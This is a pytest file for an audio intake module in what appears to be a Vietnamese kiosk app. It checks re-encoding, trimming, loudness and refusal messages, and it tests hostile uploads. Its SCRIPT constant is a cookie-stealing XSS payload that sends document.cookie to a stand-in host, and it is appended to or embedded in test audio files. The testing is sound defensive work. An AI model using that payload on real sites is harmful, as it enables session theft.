"""What becomes of a recording: made anew, of one kind, or refused with a sentence that helps."""

import json
import random
import shutil
import subprocess
import sys
import wave
import zipfile
from io import BytesIO
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
import soundfile
from hypothesis import given, settings
from hypothesis import strategies as st

from kiosk.errors import Refused
from kiosk.languages import audio
from tests.languages.sounds import as_file, loudness, samples_of, voice

SCRIPT = b"<script>document.location='//xa.example/'+document.cookie</script>" * 3
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
FIELD_OF_LENGTH = slice(40, 44)  # of the samples, in a plain WAV


def zipped() -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as folder:
        folder.writestr("loi.wav", as_file(voice()))
    return file.getvalue()


def two_hours() -> bytes:
    file = BytesIO()
    with soundfile.SoundFile(file, "w", 8000, 1, format="FLAC") as sound:
        for _ in range(120):
            sound.write(np.zeros(8000 * 60, "float32"))
    return file.getvalue()


def with_false_length(sound: bytes) -> bytes:
    changed = bytearray(sound)
    changed[FIELD_OF_LENGTH] = (0xFFFFFFF0).to_bytes(4, "little")
    return bytes(changed)


def named(kind: str) -> bytes:
    """A good sound whose title is a script."""
    file = BytesIO()
    with soundfile.SoundFile(file, "w", 48_000, 1, format=kind) as sound:
        sound.title = SCRIPT.decode()
        sound.write(voice())
    return file.getvalue()


REFUSED = {
    "a page named .wav": (lambda: PAGE, audio.NO_SOUND),
    "a page behind the first letters of a WAV": (lambda: b"RIFF" + PAGE, audio.NO_SOUND),
    "a zip": (zipped, audio.NO_SOUND),
    "a drawing": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', audio.NO_SOUND),
    "nothing": (lambda: b"", audio.NO_FILE),
    "cut before the first sample": (lambda: as_file(voice())[:44], audio.NOTHING_INSIDE),
    "cut in its head": (lambda: as_file(voice())[:30], audio.NO_SOUND),
    "two hours": (two_hours, audio.TOO_LONG.format(longest=8)),
    "192 kHz": (lambda: as_file(voice(rate=192_000), 192_000), audio.TOO_FINE),
    "32 channels": (lambda: as_file(np.tile(voice(1)[:, None], 32)), audio.TOO_FINE),
    "a kind of sound that nobody has here": (
        lambda: as_file(voice(), kind="AIFF"), audio.NO_SOUND),
    "no numbers": (
        lambda: as_file(voice() * np.nan, subtype="FLOAT"), audio.NO_SOUND),
}  # fmt: skip
CLEANED = {
    "a WAV with a script at its end": lambda: as_file(voice()) + SCRIPT,
    "an OGG with a script at its end": lambda: as_file(voice(), kind="OGG") + SCRIPT,
    "a FLAC with a script at its end": lambda: as_file(voice(), kind="FLAC") + SCRIPT,
    "an MP3 with a script at its end": lambda: as_file(voice(), kind="MP3") + SCRIPT,
    "a false length": lambda: with_false_length(as_file(voice())),
    "a false length that takes the script for sound": lambda: with_false_length(
        as_file(voice(rate=audio.RATE, around=0), audio.RATE) + SCRIPT
    ),
    "cut in the middle": lambda: as_file(voice(3))[:200_000],
    "a WAV whose title is a script": lambda: named("WAV"),
    "an OGG whose title is a script": lambda: named("OGG"),
    "a FLAC whose title is a script": lambda: named("FLAC"),
    "an MP3 whose title is a script": lambda: named("MP3"),
}
ELEVEN = {  # RELIABILITY.md, A32
    "a page named .wav", "a WAV with a script at its end", "an OGG with a script at its end",
    "a zip", "a drawing", "a false length", "nothing", "cut before the first sample", "two hours",
    "192 kHz", "32 channels",
}  # fmt: skip


def alone(folder: Path, sent: bytes, *how: str) -> dict:
    """What a process of its own makes of a file, within two seconds and 200 MB."""
    files = [folder / name for name in ("loi.wav", "master.wav", "served.mp3")]
    files[0].write_bytes(sent)
    command = [sys.executable, "-m", "tests.languages.intake_alone", *map(str, files), *how]
    ended = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)
    assert ended.returncode == 0, f"ended by {ended.returncode}: {ended.stderr}"
    kept = [file.read_bytes() for file in files[1:] if file.exists()]
    return json.loads(ended.stdout) | {"kept": kept}


def shares_a_run(kept: bytes, secret: bytes, length: int = 16) -> bool:
    return any(secret[at : at + length] in kept for at in range(len(secret) - length + 1))


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_file_is_refused_in_time_and_within_its_memory(tmp_path, name):
    make, reason = REFUSED[name]
    told = alone(tmp_path, make())
    assert (told["reason"], told["kept"]) == (reason, [])
    assert told["grew"] <= 200_000_000


@pytest.mark.parametrize("name", CLEANED)
def test_what_hides_in_a_sound_is_not_kept(tmp_path, name):
    sent = CLEANED[name]()
    told = alone(tmp_path, sent)
    assert told["reason"] is None
    assert told["grew"] <= 200_000_000
    for kept in told["kept"]:
        assert not shares_a_run(kept, SCRIPT)
        assert kept not in sent


def test_all_eleven_hostile_files_stand_here():
    assert len(ELEVEN) == 11
    assert REFUSED.keys() | CLEANED.keys() >= ELEVEN
    assert len(two_hours()) < 1_000_000  # as large as a form may be


def test_the_proof_sees_a_script_that_is_stored_as_sent():
    """The control: who keeps the file as it came keeps the script, in every case with one."""
    for name, make in CLEANED.items():
        sent = make()
        if "script" in name:
            assert shares_a_run(sent, SCRIPT), name


def test_the_proof_sees_a_program_that_takes_too_much(tmp_path):
    """The controls: what is read is counted, and reading two hours at once is ended."""
    told = alone(tmp_path, as_file(voice(5, rate=96_000, around=7), 96_000, "FLAC"))
    assert 10_000_000 < told["grew"] < 200_000_000
    with pytest.raises(AssertionError, match="MemoryError"):
        alone(tmp_path, two_hours(), "--naive")


@pytest.mark.parametrize("kind", ["WAV", "FLAC", "OGG", "MP3"])
def test_a_damaged_sound_is_kept_or_refused_and_nothing_else(kind):
    chance, whole = random.Random(kind), as_file(voice(rate=16_000), 16_000, kind)
    for _ in range(60):
        damaged = bytearray(whole)
        for _ in range(chance.randrange(1, 9)):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        try:
            recording = audio.intake(bytes(damaged[: chance.randrange(100, 2 * len(whole))]))
        except Refused:
            continue
        assert 1 <= recording.seconds <= 8


def voiced(sound: bytes) -> float:
    """The level of the voice without the silence around it."""
    samples, _ = samples_of(sound)
    return loudness(samples[np.abs(samples) > 0.02])


@pytest.mark.parametrize("kind", ["WAV", "FLAC", "OGG", "MP3"])
@pytest.mark.parametrize("rate", [8000, 16_000, 44_100, 48_000])
def test_a_voice_becomes_one_plain_wav_and_a_small_mp3(kind, rate):
    recording = audio.intake(as_file(voice(rate=rate), rate, kind))
    with wave.open(BytesIO(recording.master)) as master:
        assert master.getparams()[:3] == (1, 2, 24_000)
        assert master.getnframes() == round(recording.seconds * 24_000)
        assert len(recording.master) == 44 + 2 * master.getnframes()  # no chunk of anyone's
    served, rate = samples_of(recording.served)
    assert rate == 24_000
    assert abs(len(served) / rate - recording.seconds) < 0.1
    assert len(recording.served) * 8 / recording.seconds < 56_000
    assert voiced(recording.served) == pytest.approx(voiced(recording.master), abs=0.6)


def test_two_channels_become_one():
    both = np.stack([voice(), np.zeros_like(voice())], axis=1)
    assert audio.intake(as_file(both)).seconds == audio.intake(as_file(voice())).seconds


def test_the_silence_around_a_voice_is_cut():
    recording = audio.intake(as_file(voice(2, around=2)))
    assert recording.seconds == pytest.approx(2 + 2 * 0.15, abs=0.1)


def test_a_word_of_one_syllable_keeps_enough_silence_to_last_a_second():
    recording = audio.intake(as_file(voice(0.4, around=1)))
    assert recording.seconds == pytest.approx(1, abs=0.01)
    samples, rate = samples_of(recording.master)
    ends = np.concatenate([samples[: rate // 5], samples[-rate // 5 :]])
    assert np.abs(ends).max() < 0.02  # it stands in the middle


def test_the_hum_and_the_offset_of_a_cheap_card_are_no_voice():
    at = np.arange(4 * 48_000) / 48_000
    hum = 0.2 + 0.01 * np.sin(2 * np.pi * 50 * at)
    with pytest.raises(Refused, match="không nghe thấy"):
        audio.intake(as_file(hum))
    recording = audio.intake(as_file(np.pad(voice(2, around=0), 48_000) + hum))
    assert recording.seconds == pytest.approx(2.3, abs=0.1)


def test_what_is_too_high_for_our_rate_does_not_fold_back():
    at = np.arange(3 * 96_000) / 96_000
    low, high = (0.2 * np.sin(2 * np.pi * hertz * at) for hertz in (1000, 13_000))
    mixed, _ = samples_of(audio.intake(as_file(low + high, 96_000)).master)
    spectrum = np.abs(np.fft.rfft(mixed * np.hanning(len(mixed))))
    hertz = np.fft.rfftfreq(len(mixed), 1 / audio.RATE)
    folded = spectrum[(hertz > 10_500) & (hertz < 11_500)].max()  # 24 - 13 kHz
    assert folded < spectrum.max() / 1000


@pytest.mark.parametrize(
    ("facts", "reason"),
    [
        ({"seconds": 0.9, "around": 0}, audio.TOO_SHORT),
        ({"seconds": 0.05, "around": 1}, audio.TOO_SHORT),
        ({"seconds": 8.5, "around": 1}, audio.TOO_LONG.format(longest=8)),
        ({"seconds": 2, "around": 10}, audio.TOO_LONG.format(longest=8)),
        ({"seconds": 2, "level": 0}, audio.TOO_QUIET),
        ({"seconds": 2, "level": 0.001}, audio.TOO_QUIET),
    ],
    ids=["short", "a click", "long", "long with its silence", "silent", "a whisper far away"],
)
def test_a_voice_that_cannot_be_used_is_refused(facts, reason):
    with pytest.raises(Refused) as refused:
        audio.intake(as_file(voice(**facts)))
    assert refused.value.reason == reason


def test_a_spoken_yes_may_last_longer():
    sentence = as_file(voice(15, rate=8000), 8000)
    assert audio.intake(sentence, longest=20).seconds > 15
    with pytest.raises(Refused, match="dài quá 12 giây"):
        audio.intake(sentence, longest=12)


REASONS = [
    audio.NO_FILE, audio.NO_SOUND, audio.NOTHING_INSIDE, audio.TOO_SHORT, audio.TOO_LONG,
    audio.TOO_QUIET, audio.TOO_FINE, audio.NO_ROOM,
]  # fmt: skip


@pytest.mark.parametrize("reason", REASONS)
def test_a_refusal_says_what_is_kept_and_what_to_do(reason):
    assert "Những gì đã có vẫn giữ nguyên" in reason.replace("giữ nguyên và vẫn", "giữ nguyên")
    assert "bạn" in reason


def test_a_file_that_cannot_be_read_names_those_that_can():
    for kind in ("WAV", "FLAC", "OGG", "MP3"):
        assert kind in audio.NO_SOUND


lengths = st.floats(0.3, 7.5)
levels = st.floats(0.02, 0.6)


@settings(max_examples=25, deadline=None)
@given(lengths, levels, st.floats(0.4, 3), st.sampled_from([8000, 22_050, 48_000]))
def test_whatever_is_kept_lasts_one_to_eight_seconds_and_never_clips(seconds, level, around, rate):
    recording = audio.intake(
        as_file(voice(seconds, rate=rate, level=level, around=around), rate, "FLAC")
    )
    samples, _ = samples_of(recording.master)
    assert 1 <= recording.seconds <= 8
    assert recording.seconds <= max(1, seconds + 2 * 0.2)
    assert np.abs(samples).max() <= audio.PEAK + 1e-4
    assert np.abs(samples_of(recording.served)[0]).max() < 1


@settings(max_examples=25, deadline=None)
@given(lengths, levels, st.floats(0.4, 3))
def test_a_kept_voice_stays_as_it_is(seconds, level, around):
    first = audio.intake(as_file(voice(seconds, level=level, around=around)))
    assert audio.reencode(first.master) == first
    again = audio.intake(first.master)  # as if somebody had sent it anew
    assert again.seconds == pytest.approx(first.seconds, abs=0.03)
    assert loudness(samples_of(again.master)[0]) == pytest.approx(
        loudness(samples_of(first.master)[0]), abs=0.3
    )


def test_a_quiet_voice_and_a_loud_one_are_kept_equally_loud():
    quiet, loud = (audio.intake(as_file(voice(level=level))) for level in (0.01, 0.6))
    heard = [loudness(samples_of(one.master)[0]) for one in (quiet, loud)]
    assert heard[0] == pytest.approx(heard[1], abs=0.1)


@pytest.mark.parametrize(
    "changed",
    [
        lambda master: master + SCRIPT,
        lambda master: master[:36] + b"LIST\x04\0\0\0abcd" + master[36:],
        lambda master: as_file(voice()),
    ],
    ids=["a tail", "a foreign chunk", "another sound"],
)
def test_only_what_is_ours_to_the_last_byte_is_taken_as_it_is(changed):
    master = audio.intake(as_file(voice())).master
    taken = audio.reencode(changed(master))
    assert taken.master != changed(master)
    assert not shares_a_run(taken.master, SCRIPT)


def test_a_master_of_a_wrong_length_is_not_ours():
    master = audio.intake(as_file(voice(3))).master
    with pytest.raises(Refused):
        audio.reencode(master[:44])
    short = BytesIO()
    with wave.open(short, "wb") as sound:
        sound.setparams((1, 2, audio.RATE, 0, "NONE", ""))
        sound.writeframes(master[44 : 44 + audio.RATE])  # half a second
    with pytest.raises(Refused, match="ngắn quá"):
        audio.reencode(short.getvalue())


def test_the_machines_own_voice_becomes_an_mp3_of_the_same_loudness():
    people = audio.intake(as_file(voice(level=0.3))).served
    machine = audio.mp3_of(as_file(voice(rate=22_050, level=0.02), 22_050))
    heard = [voiced(one) for one in (people, machine)]
    assert heard[0] == pytest.approx(heard[1], abs=0.5)
    assert samples_of(audio.mp3_of(as_file(np.zeros(22_050), 22_050)))[0].max() < 0.001


def test_several_sounds_are_joined_with_silence_between():
    one = audio.intake(as_file(voice(2)))
    machine = as_file(voice(1, rate=22_050, around=0), 22_050)
    samples, rate = samples_of(audio.joined([one.served, one.master, machine], 0.5))
    assert rate == 24_000
    assert len(samples) / rate == pytest.approx(2 * one.seconds + 1 + 2 * 0.5, abs=0.2)
    assert len(samples_of(audio.joined([one.master], 0.5))[0]) / rate < one.seconds + 0.2


def test_nothing_can_not_be_joined():
    with pytest.raises(ValueError, match="concatenate"):
        audio.joined([], 0.5)


def disk_with(monkeypatch: pytest.MonkeyPatch, free: int) -> None:
    monkeypatch.setattr(shutil, "disk_usage", lambda folder: SimpleNamespace(free=free))


def test_on_a_nearly_full_disk_no_voice_is_taken(monkeypatch, tmp_path):
    audio.room_for_audio(tmp_path)  # this machine's own disk
    disk_with(monkeypatch, 299_999_999)
    with pytest.raises(Refused, match="dưới 300 MB"):
        audio.room_for_audio(tmp_path)
    disk_with(monkeypatch, 300_000_000)
    audio.room_for_audio(tmp_path)
